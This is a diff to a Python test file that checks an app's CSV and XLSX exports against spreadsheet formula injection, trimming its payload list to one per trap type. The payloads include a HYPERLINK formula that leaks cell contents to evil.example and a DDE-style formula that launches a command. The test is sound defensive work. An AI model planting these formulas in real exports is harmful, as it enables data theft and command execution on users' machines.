@@ -1,9 +1,10 @@
 """Formula injection: no export Samverka writes lets a spreadsheet run a staff-written text.
 
-The walker plants each OWASP payload in every text the exports carry (each app's
-`tests/url_scopes.py`: `EXPORTS` and `plant(world, text)`, see HELPERS "Exports registry"),
-downloads every registered export as its persona (following a redirect to background work to
-its file, opening ZIP archives) and runs every registered export command, and asserts:
+The walker plants each payload (one per kind of trap, below) in every text the exports carry
+(each app's `tests/url_scopes.py`: `EXPORTS` and `plant(world, text)`, see HELPERS "Exports
+registry"), downloads every registered export as its persona (following a redirect to
+background work to its file, opening ZIP archives) and runs every registered export command,
+and asserts:
 
 - no CSV cell begins with `=`, `+`, `-`, `@`, a tab or a carriage return unless it is a number;
 - no XLSX cell is a formula, and no XLSX text cell begins with one of those characters;
@@ -39,14 +40,16 @@ import samverka
 from samverka.lib.exports import FORMULA_STARTS
 from tests.test_url_scoping import _feature_modules, kalmar_kwargs
 
+# Every export is walked with one payload per kind of trap: a formula, a phone number (a plus
+# and digits that are not a number), a minus that starts a command, and white space before a
+# formula (which forms strip). The writer itself is tested with every OWASP start character,
+# in CSV and XLSX (samverka/lib/tests/test_exports.py); the walk shows that each export's texts
+# go through it.
 PAYLOADS = [
     '=HYPERLINK("https://evil.example/?leak="&A2,"Klicka här")',
-    "=1+1",
     "+46 70 123 45 67",
     "-2+3+cmd|' /C calc'!A0",
-    "@SUM(A1:A9)",
     "\t=1+1",
-    "\r=1+1",
 ]
 
 
@@ -210,8 +213,8 @@ def test_the_walker_catches_a_formula_and_an_unneutralised_text():
     workbook.save(raw)
     bad, _cells = file_problems("x.xlsx", raw.getvalue())
     assert len(bad) == 2  # the formula and the text "-2" (the number -2 is fine)
-    bad, _cells = file_problems("x.csv", f'title,"{PAYLOADS[4]}",-2,"\t=1"\r\n'.encode())
-    assert bad == [PAYLOADS[4], "\t=1"]
+    bad, _cells = file_problems("x.csv", b'title,"@SUM(A1:A9)",-2,"\t=1"\r\n')
+    assert bad == ["@SUM(A1:A9)", "\t=1"]
 
 
 # ------------------------------------------------------------- one writer for every export
